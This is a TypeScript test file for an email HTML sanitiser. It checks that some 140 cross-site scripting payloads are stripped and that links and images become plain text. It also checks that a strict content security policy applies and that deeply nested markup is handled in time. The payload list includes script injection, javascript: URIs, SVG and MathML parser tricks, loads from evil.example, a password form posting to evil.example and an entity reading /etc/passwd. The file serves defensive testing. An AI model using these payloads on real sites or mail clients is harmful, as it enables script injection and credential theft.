import PostalMime from "postal-mime";
import { describe, expect, it } from "vitest";
import { SHOWN_HTML_LIMIT, sanitiseHtml } from "@/lib/intake/adapter/sanitise-html";
import { wholeMails } from "@/lib/testing/mail-mutants";

const TAGS =
  "p|br|div|span|h[1-6]|ul|ol|li|dl|dt|dd|blockquote|pre|code|hr|b|strong|i|em|u|s|del|ins|su[bp]|small|abbr|address|table|caption|thead|tbody|tfoot|t[rhd]";
/** Every tag that may be in the output, with every attribute that it may have. */
const ALLOWED = new RegExp(
  `</?(?:${TAGS})(?: (?:dir="(?:ltr|rtl|auto)"|(?:col|row)span="[1-9]\\d?"))*(?: /)?>`,
  "g",
);

function bodyOf(html: string): string {
  const page = sanitiseHtml(html).document;
  const [, body] = /<body>([\s\S]*)<\/body><\/html>$/.exec(page) ?? [];
  if (body === undefined) throw new Error(page);
  return body;
}

/** What a browser would take for anything but words and structure. */
function foreign(html: string): string[] {
  const words = bodyOf(html).replace(ALLOWED, "");
  return words.match(/<[\s\S]{0,60}|[\p{Cf}\0]/gu) ?? [];
}

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<script/src=//evil.example></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert(1)",
  "<script\u0000>alert(1)</script>",
  "<script\n>alert(1)</script\n>",
  "<script type=module>import('//evil.example')</script>",
  "<script><!--<script></script>--></script>alert(1)",
  "</script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=javascript:alert(1)>",
  "<img src=`javascript:alert(1)`>",
  '<img """><script>alert(1)</script>">',
  "<img/src=x/onerror=alert(1)>",
  "<img src=x:x onerror=alert`1`>",
  "<img srcset='https://evil.example/a 1x, https://evil.example/b 2x'>",
  "<img lowsrc=javascript:alert(1)>",
  "<img dynsrc=javascript:alert(1)>",
  "<img alt='<script>alert(1)</script>' src=x>",
  "<img alt='\"><svg onload=alert(1)>' src=x>",
  "<image src=x onerror=alert(1)>",
  "<picture><source srcset=https://evil.example/x><img src=x></picture>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<svg><set attributeName=href to=javascript:alert(1)>",
  "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math><maction actiontype=statusline#https://evil.example xlink:href=javascript:alert(1)>x",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=' javascript:alert(1)'>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
  "<a href='JaVaScRiPt:alert(1)'>x</a>",
  "<a href='\u0001javascript:alert(1)'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
  "<a href='//evil.example/x'>x</a>",
  "<a href='file:///etc/passwd'>x</a>",
  "<a href='blob:https://evil.example/x'>x</a>",
  "<a href='https://evil.example/\"onmouseover=alert(1) x=\"'>x</a>",
  "<a href='https://evil.example/<script>alert(1)</script>'>x</a>",
  '<a href="https://evil.example/\'><script>alert(1)</script>">x</a>',
  "<a href='https://evil.example' onclick=alert(1) style='position:fixed' target=_top>x</a>",
  "<a name=x id=y ping=https://evil.example href=https://a.example>x</a>",
  "<a href=https://a.example><a href=https://b.example>x</a></a>",
  "</a></a></a><a>",
  "<p title='<a href=&quot;javascript:alert(1)&quot;>'>x</p>",
  "&lt;a href=&quot;javascript:alert(1)&quot;&gt;x&lt;/a&gt;",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe><script>alert(1)</script></iframe>",
  "<iframe><img src=x onerror=alert(1)>",
  "<object data=javascript:alert(1)></object>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=Evil></applet>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=import href=https://evil.example>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>body{background:url(https://evil.example)}</style>",
  "<style><img src='</style><img src=x onerror=alert(1)>'>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "<p style='width:expression(alert(1))'>x</p>",
  "<p style='-moz-binding:url(https://evil.example#x)'>x</p>",
  "<p style='position:fixed;inset:0;z-index:9'>Sign in again</p>",
  "<table background=https://evil.example><tr><td background=javascript:alert(1)>x</td></tr></table>",
  "<td colspan='2\" onmouseover=\"alert(1)'>x</td>",
  "<td colspan=99999999999 rowspan=-1>x</td>",
  "<p dir='ltr\" onclick=\"alert(1)'>x</p>",
  "<p dir=javascript:alert(1)>x</p>",
  "<body onload=alert(1)>x</body>",
  "<body background=https://evil.example>x",
  "<html onmouseover=alert(1)>x</html>",
  "</body></html><script>alert(1)</script>",
  "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
  "<form><button formaction=javascript:alert(1)>x</button></form>",
  "<isindex action=javascript:alert(1) type=image>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea><script>alert(1)</script></textarea>",
  "<textarea></textarea><script>alert(1)</script>",
  "<title></title><script>alert(1)</script>",
  "<title><img title='</title><img src=x onerror=alert(1)>'>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<xmp><script>alert(1)</script></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<video src=x onerror=alert(1)></video>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=https://evil.example autoplay>",
  "<details open ontoggle=alert(1)>x</details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<dialog open onclose=alert(1)>x</dialog>",
  "<div onclick=alert(1) onpointerover=alert(1) contenteditable>x</div>",
  "<div/onmouseover=alert(1)>x",
  "<div\u000conclick=alert(1)>x</div>",
  "<p/class='x'onclick=alert(1)>x</p>",
  "<x onclick=alert(1)>x</x>",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<slot onslotchange=alert(1)></slot>",
  "<portal src=https://evil.example></portal>",
  "<!--><script>alert(1)</script>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<?php echo 1 ?><img src=x onerror=alert(1)>",
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
  "<!ELEMENT x><script>alert(1)</script>",
  "<p>\u202egpj.exe</p>&#x202e;&#8238;&#x2066;",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
  "\ufeff<script>alert(1)</script>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)",
  "<p id=__proto__ name=constructor>x</p><__proto__ onclick=alert(1)>",
  "<constructor onclick=alert(1)><toString><hasOwnProperty>",
  "<p>'';!--\"<XSS>=&{()}</p>",
];

describe("what a mail may try in a browser", () => {
  it("is tried in at least a hundred ways", () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(100);
  });

  it.each(PAYLOADS)("leaves words and structure alone: %s", (payload) => {
    expect(foreign(payload)).toEqual([]);
    expect(foreign(`<table><tr><td>${payload}`)).toEqual([]);
    expect(foreign(`<p title="${payload}">`)).toEqual([]);
    expect(foreign(`<div><a href="https://a.example">${payload}</a></div>`)).toEqual([]);
  });

  it("is noticed by this test where it is left in", () => {
    const left = (html: string) => html.replace(ALLOWED, "").match(/<[\s\S]{0,60}/gu) ?? [];
    expect(left("<p>x</p>")).toEqual([]);
    expect(left('<p onclick="x">x</p>')).toHaveLength(1);
    expect(left('<td colspan="2" style="x">x</td>')).toHaveLength(1);
    expect(left("<script>")).toHaveLength(1);
  });
});

describe("a mail's HTML stays readable", () => {
  it("keeps paragraphs, lists, tables and quotes", () => {
    const html =
      '<p>Hi <b>you</b></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table><blockquote type="cite">q</blockquote>';
    expect(bodyOf(html)).toBe(
      '<p>Hi <b>you</b></p><ul><li>one</li></ul><table><tr><td colspan="2">x</td></tr></table><blockquote>q</blockquote>',
    );
  });

  it.each([
    [
      '<a href="https://a.example/x?a=1&amp;b=2">your bank</a>',
      "your bank [https://a.example/x?a=1&amp;b=2]",
    ],
    ['<a href="https://a.example">https://a.example</a>', "https://a.example"],
    ['<a href="mailto:ada@example.org">ada@example.org</a>', "ada@example.org"],
    ['<a href="mailto:ada@example.org">Ada</a>', "Ada [ada@example.org]"],
    ['<a href="tel:+441234">call</a>', "call [+441234]"],
    ['<a href="https://a.example"><b>x</b> y</a>', "<b>x</b> y [https://a.example]"],
    ['<a href="javascript:alert(1)">x</a>', "x"],
    ["<a>x</a>", "x"],
  ])("shows where a link leads: %s", (html, words) => {
    expect(bodyOf(html)).toBe(words);
  });

  it("cuts an address that goes on and on, never in the middle of an escaped letter", () => {
    const body = bodyOf(`<a href="https://a.example/${"&amp;".repeat(200)}">x</a>`);
    expect(body).toMatch(/^x \[https:\/\/a\.example\/(?:&amp;)+…\]$/);
  });

  it.each([
    [
      '<img src="https://evil.example/x.png" alt="Our logo">',
      "<span>[Our logo at evil.example, not loaded]</span>",
    ],
    [
      '<img src="//evil.example:8080/x.png">',
      "<span>[picture at evil.example:8080, not loaded]</span>",
    ],
    [
      '<img srcset="https://evil.example/a 1x, https://b.example/b 2x">',
      "<span>[picture at evil.example, not loaded]</span>",
    ],
    ['<img src="data:image/png;base64,iVBORw0KGgo=">', "<span>[picture]</span>"],
    ['<img src="cid:1">', "<span>[picture]</span>"],
    ['<img src="https://evil.example/t.gif" width="1" height="1">', "<span></span>"],
    ['<img src="x" alt="a &lt;b&gt;">', "<span>[a &lt;b&gt;]</span>"],
  ])("puts a picture in words: %s", (html, words) => {
    expect(bodyOf(html)).toBe(words);
  });

  it("counts the pictures of others, also the ones that are too small to be seen", () => {
    const html =
      '<img src="https://a.example/1"><img src="https://b.example/t" width=1 height=1><img src="cid:1"><img src=x>';
    expect(sanitiseHtml(html).remote).toEqual(["a.example", "b.example"]);
  });

  it("shows the pictures that came with the mail, and nothing else of their tags", () => {
    const data = "data:image/png;base64,AAAA";
    const pictureOf = (contentId: string) => (contentId === "logo@x" ? data : null);
    const shown = (html: string) =>
      /<body>([\s\S]*)<\/body>/.exec(sanitiseHtml(html, pictureOf).document)?.[1];
    expect(
      shown(
        '<img src="cid:logo@x" alt="A &quot;logo&quot;" onerror=alert(1) style="position:fixed" srcset="https://evil.example/x 1x">',
      ),
    ).toBe(`<img src="${data}" alt="A &quot;logo&quot;" />`);
    expect(shown('<img src="cid:other">')).toBe("<span>[picture]</span>");
    expect(shown('<img src="javascript:cid:logo@x">')).toBe("<span>[picture]</span>");
  });

  it("shows what a style hid, and not what is no text", () => {
    expect(bodyOf('<p style="display:none">hidden</p><style>x{}</style><title>t</title>')).toBe(
      "<p>hidden</p>",
    );
  });

  it("keeps a long table and a long list whose ends nobody wrote", () => {
    expect(bodyOf(`<ul>${"<li>x".repeat(3_000)}</ul>`)).toContain("<li>x</li><li>x</li>");
    expect(bodyOf(`<table>${"<tr><td>x<td>y".repeat(3_000)}`)).toContain("<td>x</td><td>y</td>");
  });

  it("shows the words alone of what is nested too deep", () => {
    const deep = `${"<div>".repeat(4_000)}a &lt;b&gt; <i>c</i>`;
    expect(bodyOf(deep)).toBe("<pre>a &lt;b&gt; c</pre>");
  });

  it("cuts a mail past the limit, and says so", () => {
    const body = bodyOf(`<p>${"x".repeat(SHOWN_HTML_LIMIT)}</p>`);
    expect(body.length).toBeLessThan(SHOWN_HTML_LIMIT + 100);
    expect(body).toContain("[The rest of this mail is not shown.]");
  });
});

describe("the document", () => {
  it("brings a policy of its own under which nothing loads, and only its own style applies", () => {
    const page = sanitiseHtml("<p>x</p>").document;
    const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page)?.[1];
    expect(policy).toMatch(
      /^default-src 'none'; style-src 'sha256-[\w+/]{43}='; img-src data:; base-uri 'none'; form-action 'none'$/,
    );
    expect(page.indexOf("Content-Security-Policy")).toBeLessThan(page.indexOf("<style>"));
    expect(page).not.toMatch(/url\(|@import|src=|href=/);
  });

  it.each([
    ["a million nested tags", "<div>".repeat(1_000_000)],
    ["nested quotes and tables", "<blockquote><table><tr><td>".repeat(200_000)],
    ["other nested tags", "<x><font><center>".repeat(100_000)],
    ["paragraphs", "<p>".repeat(200_000)],
    ["cells and items", "<td><li>".repeat(100_000)],
    ["cells in rows that never end", `<table>${"<tr><td>x".repeat(80_000)}`],
    ["two thousand tags at a time", `${"<div>".repeat(1_900)}${"<b>x</b>".repeat(80_000)}`],
    ["tags that close nothing", "</b>".repeat(500_000)],
    ["open links", '<a href="https://a.example">'.repeat(70_000)],
    ["pictures", "<img>".repeat(200_000)],
    ["entities", "&#60;".repeat(400_000)],
    ["open comments", "<!--".repeat(500_000)],
    ["open brackets", "<".repeat(1_000_000)],
    ["attributes", `<p ${"a='\"".repeat(300_000)}>`],
  ])("is made of %s within seconds", (_what, html) => {
    const started = performance.now();
    expect(foreign(html)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it("is made of every mail there is, and holds nothing but words and structure", async () => {
    let pages = 0;
    for (const { name, bytes } of wholeMails()) {
      const email = await PostalMime.parse(bytes).catch(() => null);
      if (!email?.html) continue;
      pages += 1;
      expect([name, foreign(email.html)]).toEqual([name, []]);
    }
    expect(pages).toBeGreaterThan(50);
  });
});
